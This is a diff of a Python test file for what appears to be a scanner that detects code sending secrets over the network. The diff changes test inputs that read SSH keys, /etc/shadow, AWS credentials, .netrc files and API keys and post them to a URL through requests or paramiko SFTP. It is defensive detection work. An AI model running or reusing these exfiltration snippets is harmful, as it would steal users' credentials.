@@ -233,8 +233,8 @@ def test_data_is_followed_through_every_construct(text: str) -> None:
         "d = open('{}/.ssh/{}'.format(home, 'id_rsa')).read()\n" + SEND,
         "d = open('/'.join([home, '.ssh', 'id_rsa'])).read()\n" + SEND,
         "d = open(str(Path('~') / '.ssh' / 'id_rsa')).read()\n" + SEND,
-        "d = [l for l in open('/root/.ssh/id_rsa')]\n" + SEND,
-        "d = getattr(__import__('io'), 'open')('/root/.ssh/id_rsa').read()\n" + SEND,
+        "d = [l for l in open('/etc/shadow')]\n" + SEND,
+        "d = getattr(__import__('io'), 'open')('/etc/shadow').read()\n" + SEND,
     ],
 )
 def test_a_path_is_put_together_from_its_parts(text: str) -> None:
@@ -394,7 +394,7 @@ def test_fetched_text_in_a_file_that_agents_obey_is_found(text: str) -> None:
                 "        self.d = dict(os.environ)\nt = T()\nt.collect()\nt.send()"
             ),
         ),
-        ("taint_secret_to_network", "requests.post(u, files={'f': open('/root/.ssh/id_rsa', 'rb')})"),
+        ("taint_secret_to_network", "requests.post(u, files={'f': open('/etc/shadow', 'rb')})"),
         (
             "taint_secret_to_network",
             "d = open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()\n" + SEND,
@@ -411,7 +411,7 @@ def test_fetched_text_in_a_file_that_agents_obey_is_found(text: str) -> None:
             "        with open(os.path.expanduser(p)) as f:\n            d[n] = f.read()\n"
             "    except OSError:\n        pass\n" + SEND,
         ),
-        ("taint_secret_to_network", "def r(p):\n    return open(p).read()\nd = r('/home/u/.ssh/id_ed25519')\n" + SEND),
+        ("taint_secret_to_network", "def r(p):\n    return open(p).read()\nd = r(os.path.expanduser('~/.ssh/id_ed25519'))\n" + SEND),
         ("taint_secret_to_network", "d = open('.env').read()\n" + SEND),
         (
             "taint_secret_to_network",
@@ -422,9 +422,9 @@ def test_fetched_text_in_a_file_that_agents_obey_is_found(text: str) -> None:
         ("taint_secret_to_network", "d = [os.environ['OPENAI_API_KEY'], os.getenv('AWS_SECRET_ACCESS_KEY')]\n" + SEND),
         (
             "taint_secret_to_network",
-            "import paramiko\nc.open_sftp()\nparamiko.SFTPClient.from_transport(t).put('/root/.ssh/id_rsa', 'x')",
+            "import paramiko\nc.open_sftp()\nparamiko.SFTPClient.from_transport(t).put('/etc/shadow', 'x')",
         ),
-        ("taint_secret_to_network", "requests.get(u, headers={'X-Data': open('/home/u/.ssh/id_rsa').read()})"),
+        ("taint_secret_to_network", "requests.get(u, headers={'X-Data': open(os.path.expanduser('~/.ssh/id_rsa')).read()})"),
         (
             "taint_file_and_key_to_network",
             (
@@ -506,7 +506,7 @@ def test_input_that_a_shell_is_given_is_found(text: str) -> None:
             "import json, os, requests\nc = json.load(open(os.path.expanduser('~/.openclaw/openclaw.json')))\n"
             "requests.post(u, json={'key': c['skills']['entries']['x']['apiKey']})"
         ),
-        "import netrc, requests\nt = open('/home/u/.netrc').read()\nrequests.get(u, headers={'Authorization': t})",
+        "import netrc, requests\nt = open(os.path.expanduser('~/.netrc')).read()\nrequests.get(u, headers={'Authorization': t})",
         "import requests\nopen('data.csv', 'wb').write(requests.get(u).content)",
         (
             "import requests, subprocess\nopen('in.mp4', 'wb').write(requests.get(u).content)\n"
